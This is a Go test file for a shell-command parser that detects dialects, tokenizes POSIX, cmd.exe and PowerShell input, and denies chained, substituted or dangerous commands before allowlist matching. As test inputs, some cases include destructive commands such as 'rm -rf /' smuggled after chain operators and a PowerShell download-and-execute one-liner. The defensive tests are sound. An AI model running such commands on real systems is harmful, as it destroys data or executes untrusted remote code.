package shellparse

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// ---------------------------------------------------------------------------
// DetectDialect
// ---------------------------------------------------------------------------

func TestDetectDialect_PowerShellFromPSModulePath(t *testing.T) {
	t.Setenv("PSModulePath", `C:\Program Files\WindowsPowerShell\Modules`)
	t.Setenv("SHELL", "")
	t.Setenv("COMSPEC", "")
	resetDetectionForTests()
	assert.Equal(t, DialectPowerShell, DetectDialect())
}

func TestDetectDialect_POSIXFromShellEnv(t *testing.T) {
	t.Setenv("PSModulePath", "")
	t.Setenv("SHELL", "/bin/bash")
	t.Setenv("COMSPEC", "")
	resetDetectionForTests()
	assert.Equal(t, DialectPOSIX, DetectDialect())
}

func TestDetectDialect_CmdFromComspec(t *testing.T) {
	t.Setenv("PSModulePath", "")
	t.Setenv("SHELL", "")
	t.Setenv("COMSPEC", `C:\Windows\System32\cmd.exe`)
	resetDetectionForTests()
	assert.Equal(t, DialectCmd, DetectDialect())
}

func TestDetectDialect_Unknown(t *testing.T) {
	t.Setenv("PSModulePath", "")
	t.Setenv("SHELL", "")
	t.Setenv("COMSPEC", "")
	resetDetectionForTests()
	assert.Equal(t, DialectUnknown, DetectDialect())
}

func TestDetectDialect_Memoized(t *testing.T) {
	t.Setenv("PSModulePath", "")
	t.Setenv("SHELL", "/bin/zsh")
	t.Setenv("COMSPEC", "")
	resetDetectionForTests()
	first := DetectDialect()
	t.Setenv("SHELL", "")
	second := DetectDialect()
	assert.Equal(t, first, second, "DetectDialect must not re-read the environment once memoized")
}

// ---------------------------------------------------------------------------
// POSIX tokenization
// ---------------------------------------------------------------------------

func TestParsePOSIX_SimpleTokens(t *testing.T) {
	p := Parse(DialectPOSIX, "git status --short")
	assert.Equal(t, []string{"git", "status", "--short"}, p.Tokens)
	assert.True(t, p.QuotesBalanced)
	assert.True(t, p.SafeForMatching())
}

func TestParsePOSIX_SingleQuotesLiteral(t *testing.T) {
	p := Parse(DialectPOSIX, `echo 'hello $USER'`)
	require.Len(t, p.Tokens, 2)
	assert.Equal(t, "hello $USER", p.Tokens[1])
	assert.False(t, p.HasSubshell)
}

func TestParsePOSIX_DoubleQuotesExpandSubshell(t *testing.T) {
	p := Parse(DialectPOSIX, `echo "hello $USER"`)
	assert.True(t, p.HasSubshell)
	assert.False(t, p.SafeForMatching())
}

func TestParsePOSIX_UnbalancedQuotesUnsafe(t *testing.T) {
	p := Parse(DialectPOSIX, `echo "unterminated`)
	assert.False(t, p.QuotesBalanced)
	assert.False(t, p.SafeForMatching())
}

func TestParsePOSIX_CommandSubstitution(t *testing.T) {
	p := Parse(DialectPOSIX, "echo $(whoami)")
	assert.True(t, p.HasSubshell)
	assert.False(t, p.SafeForMatching())
}

func TestParsePOSIX_Backticks(t *testing.T) {
	p := Parse(DialectPOSIX, "echo `whoami`")
	assert.True(t, p.HasSubshell)
}

func TestParsePOSIX_ProcessSubstitution(t *testing.T) {
	p := Parse(DialectPOSIX, "diff <(sort a) <(sort b)")
	assert.True(t, p.HasSubshell)
}

func TestParsePOSIX_ChainAndPipe(t *testing.T) {
	p := Parse(DialectPOSIX, "echo hi && rm -rf /tmp/x | cat")
	assert.True(t, p.HasChain)
	assert.True(t, p.HasPipe)
	assert.False(t, p.SafeForMatching())
}

func TestParsePOSIX_Redirect(t *testing.T) {
	p := Parse(DialectPOSIX, "echo hi > out.txt")
	assert.True(t, p.HasRedirect)
}

func TestParsePOSIX_BackslashEscape(t *testing.T) {
	p := Parse(DialectPOSIX, `echo hello\ world`)
	require.Len(t, p.Tokens, 2)
	assert.Equal(t, "hello world", p.Tokens[1])
}

// ---------------------------------------------------------------------------
// Dangerous command detection
// ---------------------------------------------------------------------------

func TestParsePOSIX_EvalIsDangerous(t *testing.T) {
	p := Parse(DialectPOSIX, "eval echo hi")
	assert.True(t, p.IsDangerous)
	assert.False(t, p.SafeForMatching())
}

func TestParsePOSIX_BashDashCIsDangerous(t *testing.T) {
	p := Parse(DialectPOSIX, "bash -c 'rm -rf /'")
	assert.True(t, p.IsDangerous)
}

func TestParsePOSIX_PlainBashIsNotDangerous(t *testing.T) {
	p := Parse(DialectPOSIX, "bash script.sh")
	assert.False(t, p.IsDangerous)
}

func TestParsePowerShell_InvokeExpressionIsDangerous(t *testing.T) {
	p := Parse(DialectPowerShell, "iex (New-Object Net.WebClient).DownloadString('http://x')")
	assert.True(t, p.IsDangerous)
}

func TestParsePowerShell_EncodedCommandIsDangerous(t *testing.T) {
	p := Parse(DialectPowerShell, "powershell -EncodedCommand SGVsbG8=")
	assert.True(t, p.IsDangerous)
}

func TestParseCmd_StartIsDangerous(t *testing.T) {
	p := Parse(DialectCmd, "start calc.exe")
	assert.True(t, p.IsDangerous)
}

// ---------------------------------------------------------------------------
// cmd.exe tokenization
// ---------------------------------------------------------------------------

func TestParseCmd_SimpleTokens(t *testing.T) {
	p := Parse(DialectCmd, "dir /b /s")
	assert.Equal(t, []string{"dir", "/b", "/s"}, p.Tokens)
}

func TestParseCmd_CaretEscape(t *testing.T) {
	p := Parse(DialectCmd, "echo hello^&world")
	require.Len(t, p.Tokens, 1)
	assert.False(t, p.HasChain)
}

func TestParseCmd_PercentExpansionIsSubshell(t *testing.T) {
	p := Parse(DialectCmd, "echo %PATH%")
	assert.True(t, p.HasSubshell)
}

func TestParseCmd_ChainOperators(t *testing.T) {
	p := Parse(DialectCmd, "echo hi && echo bye")
	assert.True(t, p.HasChain)
}

// ---------------------------------------------------------------------------
// PowerShell tokenization
// ---------------------------------------------------------------------------

func TestParsePowerShell_SingleQuotesLiteral(t *testing.T) {
	p := Parse(DialectPowerShell, `Write-Host 'hi $env:USER'`)
	require.Len(t, p.Tokens, 2)
	assert.Equal(t, "hi $env:USER", p.Tokens[1])
}

func TestParsePowerShell_DoubleQuotesVariableExpansion(t *testing.T) {
	p := Parse(DialectPowerShell, `Write-Host "hi $env:USER"`)
	assert.True(t, p.HasSubshell)
}

func TestParsePowerShell_SubexpressionOperator(t *testing.T) {
	p := Parse(DialectPowerShell, "Write-Host $(Get-Date)")
	assert.True(t, p.HasSubshell)
}

func TestParsePowerShell_ScriptBlock(t *testing.T) {
	p := Parse(DialectPowerShell, "Invoke-Command -ScriptBlock { Get-Process }")
	assert.True(t, p.HasSubshell)
}

func TestParsePowerShell_HereString(t *testing.T) {
	p := Parse(DialectPowerShell, "$x = @'\nliteral text\n'@")
	assert.True(t, p.HasSubshell)
}

func TestParsePowerShell_ChainAndRedirect(t *testing.T) {
	p := Parse(DialectPowerShell, "Get-Process; Get-Service > out.txt")
	assert.True(t, p.HasChain)
	assert.True(t, p.HasRedirect)
}

// ---------------------------------------------------------------------------
// SafeForMatching / MatchesPrefix
// ---------------------------------------------------------------------------

func TestMatchesPrefix_ExactDialect(t *testing.T) {
	p := Parse(DialectPOSIX, "git status --short")
	assert.True(t, p.MatchesPrefix([]string{"git", "status"}, DialectPOSIX))
	assert.False(t, p.MatchesPrefix([]string{"git", "push"}, DialectPOSIX))
}

func TestMatchesPrefix_UnsafeNeverMatches(t *testing.T) {
	p := Parse(DialectPOSIX, "git status && rm -rf /")
	assert.False(t, p.MatchesPrefix([]string{"git", "status"}, DialectPOSIX))
}

func TestMatchesPrefix_DialectMismatchRejected(t *testing.T) {
	p := Parse(DialectPOSIX, "ls -la")
	assert.False(t, p.MatchesPrefix([]string{"ls"}, DialectPowerShell))
}

func TestMatchesPrefix_UnknownEntryMatchesAnyDialect(t *testing.T) {
	p := Parse(DialectPOSIX, "pwd")
	assert.True(t, p.MatchesPrefix([]string{"pwd"}, DialectUnknown))
}

func TestMatchesPrefix_CrossDialectSynonym(t *testing.T) {
	p := Parse(DialectPowerShell, "Get-ChildItem -Recurse")
	assert.True(t, p.MatchesPrefix([]string{"ls"}, DialectUnknown))
}

func TestMatchesPrefix_CrossDialectSynonymOnlySingleTokenPrefix(t *testing.T) {
	p := Parse(DialectPowerShell, "Get-ChildItem -Recurse")
	assert.False(t, p.MatchesPrefix([]string{"ls", "-Recurse"}, DialectUnknown))
}

func TestMatchesPrefix_TooShort(t *testing.T) {
	p := Parse(DialectPOSIX, "git")
	assert.False(t, p.MatchesPrefix([]string{"git", "status"}, DialectPOSIX))
}

func TestDenialReason_SafeCommandIsEmpty(t *testing.T) {
	p := Parse(DialectPOSIX, "git status")
	assert.Empty(t, p.DenialReason())
}

func TestDenialReason_ChainOperatorNamed(t *testing.T) {
	p := Parse(DialectPOSIX, "git status; rm -rf /")
	assert.Equal(t, "contains a chain operator (; && ||)", p.DenialReason())
}

func TestDenialReason_DangerousTokenNamed(t *testing.T) {
	p := Parse(DialectPOSIX, "eval setup.sh")
	assert.Equal(t, "dangerous token in command", p.DenialReason())
}
